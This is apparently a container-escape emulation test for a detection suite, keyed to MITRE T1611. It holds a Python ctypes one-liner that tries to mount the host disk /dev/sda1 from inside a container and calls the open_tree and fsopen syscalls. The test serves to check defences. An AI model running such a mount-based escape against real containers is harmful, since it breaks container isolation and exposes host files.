#!/bin/sh
# case: T1611-mount-by-python
# technique: Escape: mount(2) and open_tree called without a tool
# source: redcanaryco/atomic-red-team T1611-1 Deploy container using nsenter container escape
# needs: python3
# expect: escape priv
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need python3
[ "$(uname -m)" = x86_64 ] || exit 77
python3 -c 'import ctypes
c=ctypes.CDLL(None,use_errno=True);c.mount(b"/dev/sda1",b"/mnt",b"ext4",1,None);c.syscall(428,-100,b"/",1);c.syscall(430,b"ext4",0);c.umount2(b"/mnt",2)' 
exit 0
